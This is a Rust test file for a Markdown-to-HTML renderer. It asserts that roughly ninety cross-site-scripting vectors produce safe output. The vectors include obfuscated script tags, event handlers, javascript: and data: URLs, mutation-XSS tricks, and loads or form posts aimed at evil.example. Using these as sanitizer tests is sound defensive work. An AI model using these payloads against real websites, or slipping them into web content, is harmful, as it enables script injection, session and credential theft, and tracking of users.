//! Markdown that tries to run something, load something, or imitate a part of the site.

use super::safety::assert_safe;
use crate::{Options, inline_html, outline, plain_text, to_html};

const VECTORS: &[&str] = &[
    // Raw HTML.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)\n\n</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>/*</script\u{c}>*/alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert(1)\">",
    "<img src=\"jav&#x0A;ascript:alert(1)\">",
    "<img srcset=\"//evil.example/a 1x\" src=a.png>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=\"\\\\evil.example\\a\">",
    "<img src=a.png style=\"background:url(//evil.example)\">",
    "<b onmouseover=alert(1) ONCLICK='x'>b</b>",
    "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example';</style>",
    "<video src=//evil.example poster=//evil.example><source src=x onerror=alert(1)></video><audio src=//e.x>",
    "<picture><source srcset=//evil.example><img src=//evil.example></picture>",
    "<body background=//evil.example onload=alert(1)>",
    "<table background=//evil.example><td background=//evil.example>x</table>",
    "<details ontoggle=alert(1) open>x</details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp><plaintext><b>",
    "<template><script>alert(1)</script></template>",
    "<a href='javascript:alert(1)'>x</a><a href=' \u{1} JaVaScRiPt:alert(1)'>x</a>",
    "<a href=\"java&Tab;script&colon;alert(1)\">x</a><a href=&#106;avascript:alert(1)>x</a>",
    "<a href=\"javascript&#58alert(1)\">x</a><a href=\"&#0000106avascript:alert(1)\">x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a><a xlink:href=javascript:alert(1)>x</a>",
    "<a href=\"https://e.x\" target=_blank rel=opener ping=//evil.example>x</a>",
    "<q cite=javascript:alert(1)>x</q><blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<p id=search name=cookie class=site-nav role=alert tabindex=9 accesskey=s aria-label=x contenteditable>x</p>",
    "<a id=\"x\" id=\"y\" href=a href=javascript:alert(1)>x</a>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title=`a` a=`b` x<y=1>z</p>",
    "</div></main></body><script>alert(1)</script>",
    "<div\n\nonclick=alert(1)\n\n>x</div>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml ?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<a <b <img src=x onerror=alert(1)>",
    "<details><summary><table><tr><details><p><b>x",
    "<table><b><a href=x><tr><td></b><a href=y>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "\u{0}<scr\u{0}ipt>alert(1)</script>",
    // Links, images, definitions.
    "[x](javascript:alert(1)) [x](JAVASCRIPT:alert(1)) [x](<java\tscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1)) [x](javascript&colon;alert(1)) [x](java&NewLine;script:alert(1))",
    "[x](vbscript:x) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd) [x](blob:x) [x](view-source:x)",
    "[x](\u{1}javascript:alert(1)) [x](\u{a0}javascript:alert(1)) [x](<  javascript:alert(1)>)",
    "[x](feed:javascript:alert(1)) [x](jar:javascript:alert(1)!/) [x](java%73cript:alert(1))",
    "<javascript:alert(1)> <data:text/html,x> <JaVaScRiPt:x>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: <java&#115;cript:alert(1)> \"t\\\" onclick=alert(1)\"",
    "[x](y \"\\\" onmouseover=alert(1) \\\"\")",
    "[x](y '\"><script>alert(1)</script>')",
    "![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>) ![x](//evil.example/p.gif)",
    "![\"><script>alert(1)</script>](y)",
    "![x](y \"\\\" onerror=\\\"alert(1)\")",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "![a [b](javascript:alert(1))](https://e.x)",
    "[x](https://e.x/\"onclick=alert(1))",
    "[x]('\"()&%<acx><ScRiPt>alert(1)</ScRiPt>)",
    "[a](x '<!--') --> [b](y)",
    "https://e.x/\"><script>alert(1)</script>",
    "https://e.x/'onclick='alert(1) http://e.x/`onclick=`",
    // Our own constructs.
    "[[javascript:alert(1)]] [[x|<script>alert(1)</script>]] [[\"><img src=x onerror=alert(1)>]]",
    "[x](redact:\"><script>alert(1)</script>) [x](<redact:\" onclick=alert(1) x=\">)",
    "```redact\n<script>alert(1)</script>\n[x](javascript:alert(1))\n```",
    "````redact\n```redact\n<img src=x onerror=alert(1)>\n```\n````",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js\" onclick=\"alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "~~~html\n</code></pre><script>alert(1)</script>\n~~~",
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>",
    "# <script>alert(1)</script> \" onclick=alert(1)\n\n## \"><img src=x onerror=alert(1)>",
    "# x {#id onclick=alert(1) .site-nav style=color:red}",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "x[^a\"onclick=alert(1)]\n\n[^a\"onclick=alert(1)]: <script>alert(1)</script> <b onclick=x>y",
    "> [!NOTE]\n> <script>alert(1)</script>\n\n> [!\"><script>]\n> x",
    "|<script>alert(1)</script>|<b onclick=x>|\n|-|-|\n|[x](javascript:alert(1))|</table><script>|",
    "- [ ] <input type=text autofocus onfocus=alert(1)>\n- [x] <b>",
    "*<b>a*</b> **<i>b**</i> ~~<a href=x>c~~</a> [d <a href=javascript:x>e](f)</a>",
    "<b>\n\n# x\n\n</b>\n\n- <div>\n\n> <div>\n\n</div></div></div>",
];

#[test]
fn nothing_runs_and_nothing_loads() {
    for vector in VECTORS {
        for source in [
            (*vector).to_owned(),
            format!("text {vector} text"),
            format!("- {}", vector.replace('\n', "\n  ")),
            format!("> {}\n\n<div>x", vector.replace('\n', "\n> ")),
            format!("<b>y</b>\n\n{vector}\n\n<i>"),
            format!("x[^n]\n\n[^n]: {}", vector.replace('\n', "\n    ")),
            format!("```redact\n{}\n```", vector.replace("```", "~~~")),
        ] {
            assert_safe(&source, &to_html(&source, &Options::default()));
            assert_safe(&source, &inline_html(&source, &Options::default()));
            std::hint::black_box(outline(&source));
            std::hint::black_box(plain_text(&source));
        }
    }
}

#[test]
fn a_hook_cannot_lead_outside_either() {
    use crate::Resolved;
    for href in ["javascript:x", " \tjava\nscript:x", "data:x", "//evil.example", "x\" onclick=\"y"] {
        let lead = |_: &str, _| {
            Some(Resolved {
                href: href.to_owned(),
                class: Some("a\" b=\"".to_owned()),
                label: Some("<b>".to_owned()),
                size: None,
            })
        };
        let options = Options { links: &lead, ..Options::default() };
        let source = "[a](b) ![c](d) [[e]] <a href=f>g</a> <img src=h> https://i.j";
        assert_safe(source, &to_html(source, &options));
    }
}

#[test]
fn what_is_taken_away_leaves_its_words() {
    for (source, words) in [
        ("[click](javascript:x)", "<p>click</p>"),
        ("<javascript:x>", "<p>javascript:x</p>"),
        ("![alt](data:x)", "<p>alt</p>"),
        ("![a ![b](c.png) d](data:x)", "<p>a b d</p>"),
        ("<font color=red>x</font> <center>y</center>", "<p>x y</p>"),
    ] {
        assert_eq!(to_html(source, &Options::default()).trim(), words);
    }
}

#[test]
fn words_in_angle_brackets_stay_with_their_end() {
    for source in [
        "The <script> in the title, and </script>",
        "<script>alert(1)</script> stood in **the** title",
        "a <textarea>b</textarea> c",
        "<html><body> came back in place of JSON</body></html>",
        "<svg onload=x> and <iframe src=\"https://a.b/c\"></iframe>",
        "<my-service> calls Vec<T> and Option<A>",
        "press <s> to stop, <u>, and </b>",
        "<?php echo 1 ?> <!DOCTYPE html> <![CDATA[x]]>",
        "<marquee>x</marquee>",
        "a <td> b <tr>",
    ] {
        for source in [source.to_owned(), format!("Then: {source}"), format!("## {source}"), format!("- {source}")] {
            let html = to_html(&source, &Options::default());
            let text = source.trim_start_matches(['#', '-', ' ']).replace("**", "");
            let escaped = base::text::escape_html(&text).replace("&quot;", "\"");
            let shown = html.replace("<strong>", "").replace("</strong>", "");
            let linked = escaped
                .replace("https://a.b/c", "<a href=\"https://a.b/c\" rel=\"noopener noreferrer\">https://a.b/c</a>");
            assert!(shown.contains(&escaped) || shown.contains(&linked), "{source}: {html}");
            assert_eq!(plain_text(&source), text);
            assert_safe(&source, &html);
        }
    }
}

#[test]
fn a_tag_that_is_none_makes_no_block() {
    for (source, wanted) in [
        (
            "<my-service>\nwas **down**, see [a](b)\n\nc",
            "<p>&lt;my-service&gt;\nwas <strong>down</strong>, see <a href=\"b\">a</a></p>\n<p>c</p>",
        ),
        ("<textarea>\n\n## It stood open\n\nx", "<p>&lt;textarea&gt;</p>\n\n<h2 id=\"it-stood-open\">"),
        ("<section>\n\n*a*\n\n</section>", "<p>&lt;section&gt;</p>\n<p><em>a</em></p>\n<p>&lt;/section&gt;</p>"),
        ("<script>\nif (a * b * c) {\n</script>", "if (a * b * c) {\n&lt;/script&gt;"),
    ] {
        let html = to_html(source, &Options::default());
        assert!(html.trim().contains(wanted), "{source:?}: {html}");
        assert_safe(source, &html);
    }
    let many = "<textarea> a\n\n".repeat(40);
    assert_eq!(plain_text(&many).matches("<textarea> a").count(), 40);
}

#[test]
fn addresses_with_other_schemes_stand_after_the_words() {
    for (source, wanted) in [
        ("[the channel](slack://c?id=1&x)", "<p>the channel (slack://c?id=1&amp;x)</p>"),
        ("<ssh://host/~a>", "<p>ssh://host/~a</p>"),
        ("[`vscode:x`](vscode:x)", "<p><code>vscode:x</code> (vscode:x)</p>"),
        ("[](ftp://a/b)", "<p>ftp://a/b</p>"),
        ("![a plot](ftp://a/b.png)", "<p>a plot (ftp://a/b.png)</p>"),
        ("<a href=\"xmpp:a@b\">chat</a>", "<p><a>chat</a> (xmpp:a@b)</p>"),
        ("[x](javascript:y)", "<p>x</p>"),
    ] {
        assert_eq!(to_html(source, &Options::default()).trim(), wanted, "{source}");
    }
    let schemes = ["slack", "javascript"].map(str::to_owned);
    let options = Options { schemes: &schemes, ..Options::default() };
    assert_eq!(to_html("[a](slack://c) <i>b</i>", &options).trim(), "<p><a href=\"slack://c\">a</a> <i>b</i></p>");
    assert_eq!(to_html("<a href='Slack:c'>a</a>", &options).trim(), "<p><a href=\"Slack:c\">a</a></p>");
    assert_eq!(to_html("[a](javascript:c) <a href=javascript:x>b</a>", &options).trim(), "<p>a <a>b</a></p>");
}

#[test]
fn the_words_of_an_image_in_an_image_stay() {
    assert!(to_html("![a ![b](c.png) *d*](e.png)", &Options::default()).contains("alt=\"a b d\""));
    assert!(to_html("![a](b.png \"t\")", &Options::default()).contains("alt=\"a\" title=\"t\""));
}
